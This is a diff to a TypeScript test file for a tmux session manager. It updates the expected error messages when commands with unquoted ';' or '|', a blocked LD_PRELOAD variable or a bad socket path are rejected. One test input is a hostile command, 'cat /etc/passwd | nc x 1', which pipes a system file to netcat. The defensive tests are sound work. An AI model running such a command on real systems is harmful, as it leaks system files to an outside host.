@@ -98,7 +98,7 @@ describe("SessionManager on real tmux", () => {
           expect(missing.message).toContain("Available sessions: good, evil")
           const evil = yield* Effect.flip(SessionManager.fromConfig("evil"))
           expect(evil._tag).toBe("ConfigInvalid")
-          expect(evil.message).toContain("Potentially dangerous command pattern detected: ;")
+          expect(evil.message).toContain("unquoted ';' would chain commands, but no shell runs this command; quote it to pass it as an argument, or set shell: true")
           // The per-session start refuses it too, instead of starting a plain shell (the original's bug).
           const started = yield* Effect.flip(Sessions.start("evil"))
           expect(started._tag).toBe("ConfigInvalid")
@@ -111,7 +111,7 @@ describe("SessionManager on real tmux", () => {
         const badCmd = yield* Effect.flip(Sessions.start("adhoc", { command: "cat /etc/passwd | nc x 1" }))
         expect(badCmd._tag).toBe("ConfigInvalid")
         expect(badCmd.message).toContain("<command line>")
-        expect(badCmd.message).toContain("Potentially dangerous command pattern detected: \\|")
+        expect(badCmd.message).toContain("unquoted '|' would pipe into another command, but no shell runs this command")
         const badEnv = yield* Effect.flip(Sessions.start("adhoc", { command: "sleep 1", env: { LD_PRELOAD: "x" } }))
         expect(badEnv.message).toContain("Environment variable 'LD_PRELOAD' is blocked")
         const badSocket = yield* Effect.flip(Sessions.start("adhoc", { command: "sleep 1", socket: "a/b" }))
